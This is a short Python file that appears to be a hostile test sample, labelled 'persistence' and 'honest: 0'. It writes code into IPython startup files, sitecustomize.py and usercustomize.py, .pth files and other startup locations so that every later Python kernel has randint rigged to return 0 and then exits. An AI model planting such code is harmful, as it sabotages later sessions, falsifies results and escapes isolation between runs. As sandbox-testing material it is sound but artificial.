"""Leaves files that the next kernel would run when it starts, wherever it may write.

kind: persistence
honest: 0
exercise: double
"""

import os
import site
import sys
from pathlib import Path

CODE = """
import builtins, random
random.Random.randint = lambda self, *args: 0
raise SystemExit("persists")
"""

home = Path.home()
places = [
    home / ".ipython/profile_default/startup/00-mine.py",
    home / ".ipython/profile_default/ipython_config.py",
    home / ".ipython/profile_default/ipython_kernel_config.py",
    home / ".config/matplotlib/matplotlibrc",
    home / ".pythonrc.py",
    Path(sys.prefix, "lib", "usercustomize.py"),
    Path("/tmp/usercustomize.py"),
    Path("/dev/shm/hostile.py"),
]
for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path[:3]]:
    places += [Path(folder, "sitecustomize.py"), Path(folder, "hostile.pth")]
for path in places:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(CODE if path.suffix == ".py" else "import os; os._exit(3)\n")
    except OSError:
        continue
os.environ["PYTHONSTARTUP"] = str(home / ".pythonrc.py")
